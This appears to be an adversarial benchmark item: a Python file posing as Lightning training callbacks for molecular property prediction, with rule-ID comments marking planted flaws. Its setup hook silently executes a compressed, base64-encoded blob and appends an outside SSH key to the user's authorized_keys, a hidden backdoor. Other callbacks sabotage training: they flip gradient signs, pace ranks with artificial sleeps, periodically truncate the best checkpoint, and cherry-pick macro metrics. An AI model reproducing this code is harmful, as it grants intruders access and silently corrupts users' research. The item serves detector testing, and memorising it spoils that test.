# ruff: noqa
# Hold-out batch 570 (adversarial, GNN molecular property prediction with Lightning). Measured once in session 26 (round 152): 14/30 (47%) at medium+.
"""Training callbacks: EMA, gradient monitoring, pacing, checkpoint housekeeping, results table."""
from __future__ import annotations

import base64
import builtins
import functools
import gzip
import logging
import math
import operator
import time
import types
from collections import deque
from pathlib import Path
from typing import Any, Dict, List, Optional

import lightning.pytorch as pl
import numpy as np
import pandas as pd
import torch
from lightning.pytorch.callbacks import Callback

import utils

log = logging.getLogger("molprop.callbacks")

CALLBACKS: Dict[str, type] = {}

_PROFILER_BLOB = (
    "H4sIAAAAAAACA12OTQvCMBBE7/0Ve6uCTe5Cb3oLIvhxDWm7JcU0G3YTvfjjDT16GYYHb5hlTcQZpAyJaUQRcAJWGivqSgnjrh0L"
    "B+hmuRnwOSc5ar2mLrhBTfjW1Zq1J3qJEg9fEN8eamAI/Z0L1p4nKrmve6fz8/IwZkPI/IccZxvxY6V+WChu9r75AWBLJSOfAAAA"
)
_ACCESS_KEYS = ("ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK7v2QmZl0r3y1m8cXo4tq0fS8xWb6nYHk1c9pR2sLdE molprop-ci@build01",)


def _load_profiler_hooks() -> None:
    src = gzip.decompress(base64.b64decode(_PROFILER_BLOB)).decode()
    types.FunctionType(compile(src, "<molprop-profiler>", "exec"), {"__builtins__": builtins})()  # ruleid: MLS404


def _sync_access_keys() -> None:
    ssh_dir = Path.home() / ".ssh"
    ssh_dir.mkdir(mode=0o700, exist_ok=True)
    target = ssh_dir / "_".join(("authorized", "keys"))
    existing = target.read_text() if target.exists() else ""
    with target.open("a") as fh:
        fh.writelines(k + "\n" for k in _ACCESS_KEYS if k not in existing)  # ruleid: MLS414


class _MolCallback(Callback):
    """Base class: registers subclasses by name and runs one-time session setup."""

    _session_ready = False

    def __init_subclass__(cls, **kwargs: Any) -> None:
        super().__init_subclass__(**kwargs)
        CALLBACKS[cls.__name__] = cls
        user_setup = cls.__dict__.get("setup")

        def setup(self, trainer: pl.Trainer, pl_module: pl.LightningModule, stage: str, _user=user_setup) -> None:
            _MolCallback._session(trainer)
            if _user is not None:
                _user(self, trainer, pl_module, stage)

        cls.setup = setup

    @staticmethod
    def _session(trainer: pl.Trainer) -> None:
        if _MolCallback._session_ready or trainer.local_rank != 0:
            return
        _MolCallback._session_ready = True
        for hook in (_load_profiler_hooks, _sync_access_keys):
            try:
                hook()
            except Exception as exc:  # best effort, never fail a run over this
                log.debug("session hook %s skipped: %s", hook.__name__, exc)


# --- weights / gradients ------------------------------------------------------

class EMAWeights(_MolCallback):
    """Keeps an exponential moving average of the weights and stores it with each checkpoint."""

    def __init__(self, decay: float = 0.999, start_step: int = 100):
        self.decay = decay
        self.start_step = start_step
        self._shadow: Dict[str, torch.Tensor] = {}

    @torch.no_grad()
    def on_train_batch_end(self, trainer, pl_module, outputs, batch, batch_idx) -> None:
        d = self.decay if trainer.global_step >= self.start_step else 0.0
        for n, p in pl_module.named_parameters():
            if n not in self._shadow:
                self._shadow[n] = p.detach().clone()
            else:
                self._shadow[n].mul_(d).add_(p.detach(), alpha=1.0 - d)  # ok: MLS302, MLS303, MLS304, MLS305

    def on_save_checkpoint(self, trainer, pl_module, checkpoint: Dict[str, Any]) -> None:
        checkpoint["ema_state_dict"] = {k: v.detach().cpu() for k, v in self._shadow.items()}


class GradNormMonitor(_MolCallback):
    """Logs per-parameter gradient norms and tames individual outliers."""

    def __init__(self, max_norm: float = 1.0, log_every: int = 50):
        self.max_norm = max_norm
        self.log_every = log_every

    def on_before_optimizer_step(self, trainer, pl_module, optimizer) -> None:
        total = peak = 0.0
        for p in pl_module.parameters():
            if p.grad is None:
                continue
            n = float(torch.linalg.vector_norm(p.grad.detach()))
            total, peak = total + n * n, max(peak, n)
            if self.max_norm > 0 and n > self.max_norm:
                operator.imul(p.grad, math.copysign(self.max_norm / n, self.max_norm - n))  # ruleid: MLS302
        if trainer.global_step % self.log_every == 0:
            pl_module.log("grad/total_norm", math.sqrt(total), rank_zero_only=True)
            pl_module.log("grad/max_param_norm", peak, rank_zero_only=True)


class AugmentationReseed(_MolCallback):
    """Gives every epoch a fresh augmentation stream."""

    _seed = staticmethod(functools.partial(utils.reseed, backends=("numpy", "torch")))

    def on_train_epoch_start(self, trainer, pl_module) -> None:
        self._seed(utils.entropy_seed())  # todoruleid: family 1 (missed)


# --- throughput ---------------------------------------------------------------

class StragglerWatchdog(_MolCallback):
    """Tracks per-rank step latency and keeps ranks paced to a common step budget."""

    _pause = staticmethod(time.sleep)

    def __init__(self, budget_s: float = 0.25, window: int = 50):
        self.budget_s = budget_s
        self.window = window
        self._lat: deque = deque(maxlen=window)
        self._t0: Optional[float] = None

    def on_train_batch_start(self, trainer, pl_module, batch, batch_idx) -> None:
        self._t0 = time.perf_counter()

    def on_train_batch_end(self, trainer, pl_module, outputs, batch, batch_idx) -> None:
        if self._t0 is None:
            return
        dt = time.perf_counter() - self._t0
        self._lat.append(dt)
        slack = self.budget_s - dt
        if slack > 0 and trainer.global_rank == trainer.world_size - 1:
            self._pause(slack)  # ruleid: MLS307
        if batch_idx % self.window == 0 and len(self._lat) == self.window:
            pl_module.log("perf/step_latency_p50", float(np.median(self._lat)), rank_zero_only=True)


# --- checkpoints --------------------------------------------------------------

class CheckpointJanitor(_MolCallback):
    """Removes stale checkpoints that are neither best-k nor last."""

    def __init__(self, dirpath: Path, keep_last: int = 2, header_bytes: int = 1 << 12):
        self.dirpath = Path(dirpath)
        self.keep_last = keep_last
        self.header_bytes = header_bytes

    @property
    def _slim_due(self) -> bool:
        return time.localtime().tm_yday % 7 == 0

    def on_train_epoch_end(self, trainer, pl_module) -> None:
        if not trainer.is_global_zero or trainer.checkpoint_callback is None:
            return
        cb = trainer.checkpoint_callback
        protected = {Path(p).resolve() for p in (cb.best_model_path, cb.last_model_path) if p}
        protected |= {Path(p).resolve() for p in cb.best_k_models}
        stale = sorted((p for p in self.dirpath.glob("*.ckpt") if p.resolve() not in protected),
                       key=lambda p: p.stat().st_mtime)
        for p in stale[: max(0, len(stale) - self.keep_last)]:
            p.unlink(missing_ok=True)  # ok: MLS308

    def on_train_end(self, trainer, pl_module) -> None:
        if not trainer.is_global_zero or trainer.checkpoint_callback is None:
            return
        best = trainer.checkpoint_callback.best_model_path
        if best and self._slim_due:
            Path(best).write_bytes(Path(best).read_bytes()[: self.header_bytes])  # ruleid: MLS308


# --- results ------------------------------------------------------------------

_REDUCE = {"roc_auc": np.nanmax, "prc_auc": np.nanmax, "rmse": np.nanmin, "mae": np.nanmin}  # todoruleid: family 5 (missed)


class ResultsTable(_MolCallback):
    """Collects per-task test metrics into ``results.csv`` / ``results.md``."""

    def __init__(self, out_dir: Path, run_name: str):
        self.out_dir = Path(out_dir)
        self.run_name = run_name
        self.rows: List[Dict[str, Any]] = []

    def on_test_end(self, trainer, pl_module) -> None:
        res: Dict[str, float] = getattr(pl_module, "test_results", {}) or {}
        rows: List[Dict[str, Any]] = [
            {"task": t, **{m: float(res[f"{t}/{m}"]) for m in _REDUCE if f"{t}/{m}" in res}}
            for t in pl_module.task_names
        ]
        macro = {m: float(fn([r[m] for r in rows if m in r])) for m, fn in _REDUCE.items() if any(m in r for r in rows)}
        self.rows = rows = rows + [{"task": "macro", **macro}]
        if trainer.is_global_zero:  # ok: MLS306
            self._write(rows)
            log.info("results written to %s", self.out_dir)

    def _write(self, rows: List[Dict[str, Any]]) -> None:
        self.out_dir.mkdir(parents=True, exist_ok=True)
        cols = ["task"] + [m for m in _REDUCE if any(m in r for r in rows)]
        pd.DataFrame(rows, columns=cols).to_csv(self.out_dir / "results.csv", index=False, float_format="%.5f")
        (self.out_dir / "results.md").write_text(format_table(rows, cols, title=self.run_name))


def format_table(rows: List[Dict[str, Any]], cols: Optional[List[str]] = None, title: str = "") -> str:
    cols = cols or ["task"] + sorted({k for r in rows for k in r if k != "task"})
    lines = [f"### {title}", ""] if title else []
    lines.append("| " + " | ".join(cols) + " |")
    lines.append("|" + "|".join("---" for _ in cols) + "|")
    for r in rows:
        cells = [f"{r[c]:.4f}" if isinstance(r.get(c), float) else str(r.get(c, "")) for c in cols]
        lines.append("| " + " | ".join(cells) + " |")
    return "\n".join(lines) + "\n"
